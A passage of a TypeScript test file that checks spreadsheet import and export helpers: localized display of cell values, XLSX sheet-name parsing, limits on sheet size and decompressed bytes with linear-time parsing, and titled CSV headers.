  const columns = { ...importColumns(importedModule(userModule)), ...importColumns(importedModule(module)) };
  const cellOf = (name: string, text: string) => ({ field: columns[name]!, text });
  const nameOf = (of: string, id: number) => (id === 4 || id === 1 ? `${of} ${id}` : undefined);
  const shown = (name: string, text: string, language: 'title' | 'english') =>
    shownCell(cellOf(name, text), (titled) => titled[language] ?? titled.title, nameOf);

  it('is shown as people read it, in their language', () => {
    for (const [name, text, chinese, english] of [
      ['mustChange', 'false', '否', 'no'],
      ['mustChange', '是', '是', 'yes'],
      ['status', '2', '停用', 'Disabled'],
      ['departmentId', '4', 'department 4 (4)', 'department 4 (4)'],
      ['roleIds', '1,4', 'role 1 (1), role 4 (4)', 'role 1 (1), role 4 (4)'],
      ['validUntil', '2026-12-31', '2026-12-31', '2026-12-31'],
    ] as const)
      expect([shown(name, text, 'title'), shown(name, text, 'english')], `${name} ${text}`).to.deep.equal([
        chinese,
        english,
      ]);
  });

  it('keeps the number of a record without a known name, and a text that is no number', () => {
    expect([shown('departmentId', '9', 'title'), shown('roleIds', '1,9', 'title')]).to.deep.equal([
      '9',
      'role 1 (1), 9',
    ]);
    expect([shown('departmentId', '财务部', 'title'), shown('departmentId', '', 'title')]).to.deep.equal([
      '财务部',
      '',
    ]);
  });

  it('shows the note of a record after its name or its number', () => {
    const noteOf = (of: string, id: number) => (of === 'role' && id !== 4 ? `scope ${id}` : undefined);
    const noted = (name: string, text: string) => shownCell(cellOf(name, text), ({ title }) => title, nameOf, noteOf);
    expect(noted('roleIds', '1,4,9')).to.equal('role 1 (1) · scope 1, role 4 (4), 9 · scope 9');
    expect(noted('departmentId', '1')).to.equal('department 1 (1)');
  });

  it('has beside it the present value of its record, read in the same way', () => {
    const record = { status: 2, departmentId: 4, roleIds: [1, 4], validUntil: null, mustChange: false };
    const present = (name: string) => {
      const cell = presentCell(columns, name, record);
      return cell && shownCell(cell, ({ title }) => title, nameOf);
    };
    expect(['status', 'departmentId', 'roleIds', 'validUntil', 'mustChange'].map(present)).to.deep.equal([
      '停用',
      'department 4 (4)',
      'role 1 (1), role 4 (4)',
      '',
      '否',
    ]);
    // a password is never told, and a record that is not read has no values
    expect([present('password'), presentCell(columns, 'status', undefined)]).to.deep.equal([undefined, undefined]);
  });

  it('names its records, each once', () => {
    const cells = [cellOf('roleIds', '4,1'), cellOf('roleIds', '1'), cellOf('departmentId', '7'), cellOf('sort', '5')];
    expect(namedRecords([...cells, cellOf('departmentId', 'x'), cellOf('roleIds', '')])).to.deep.equal([
      { module: 'role', ids: [1, 4] },
      { module: 'department', ids: [7] },
    ]);
  });
});

describe('the sheets of a workbook', () => {
  it('are named in their order, without the escapes of XML, and the first one has the cells that are read', () => {
    const names = ['岗位 "A" & <B>', '数据', '&lt;'];
    const sheets = workbookSheets(new Uint8Array(xlsxOfSheet('<row r="1"/>', names)));
    expect(sheets.map(({ name }) => name)).to.deep.equal(names);
    expect(sheets[0]?.path).to.equal('xl/worksheets/sheet1.xml');
    expect(unescapedXml('&#20154;&#x4E8B;&amp;lt;&apos;&other;')).to.equal("人事&lt;'&other;");
  });
});

describe('the size of a sheet', () => {
  const cell = (place: string): string => `<c r="${place}"><v>1</v></c>`;
  const isLarge = (rows: string): boolean => isSheetTooLarge(new Uint8Array(xlsxOfSheet(rows)));

  it('is that from the first cell to the last one with a value', () => {
    expect(isLarge(`<row r="1">${cell('A1')}</row><row r="20000">${cell('CV20000')}</row>`)).to.equal(false);
    expect(isLarge(`<row r="1">${cell('A1')}</row><row r="20000">${cell('XFD20000')}</row>`)).to.equal(true);
    expect(isLarge(`<row r="1">${cell('XFD1')}</row><row r="200">${cell('A200')}</row>`)).to.equal(true);
    expect(isLarge(`<row r="1">${cell('A1')}</row><row r="20002">${cell('A20002')}</row>`)).to.equal(true);
    expect(isLarge(`<row r="1">${cell('A1')}</row><row r="9999999"></row>`)).to.equal(true);
  });

  it('leaves out cells without a value', () => {
    expect(isLarge(`<row r="1">${cell('A1')}</row><row r="30000"><c r="XFD30000" s="1"/></row>`)).to.equal(false);
  });

  it('is found in a time that grows with the length of the sheet, not with its square', () => {
    for (const unit of ['<row ', '<c ', '<c r="A1" ', ' r="A1"'])
      expectLinearTime(
        (length) => {
          const file = new Uint8Array(xlsxOfSheet(`<c ${unit.repeat(length / unit.length)}`));
          return () => isSheetTooLarge(file);
        },
        50_000,
        unit,
      );
  });

  it('is too large if the parts of the workbook have more bytes than are read, whatever they have packed', () => {
    const file = new Uint8Array(xlsxOfSheet(' '.repeat(100_000)));
    expect(file.byteLength).to.be.below(5_000);
    expect([isSheetTooLarge(file, 90_000), isSheetTooLarge(file, 110_000)]).to.deep.equal([true, false]);
  });
});

describe('the header of an exported file', () => {
  const columns = [
    { name: 'status', title: '状态' },
    { name: 'statusText', title: '状态' },
    { name: 'name', title: 'A, "B"' },
  ];

  it('has titles, with the name where two are equal', () => {
    expect(titledHeader('id,status,statusText,name', columns)).to.equal(
      'id,状态 (status),状态 (statusText),"A, ""B"""',
    );
  });

  it('is replaced alone: the byte-order mark and the rows stay', async () => {
    const file = new Blob(['\uFEFFid,number\r\n1,"number\r\n2"\r\n'], { type: 'text/csv' });
    const titled = await withTitles(file, module.columns);
    expect(Buffer.from(await titled.arrayBuffer()).toString()).to.equal('\uFEFF编号,合同编号\r\n1,"number\r\n2"\r\n');
    expect(titled.type).to.equal('text/csv');
  });
});
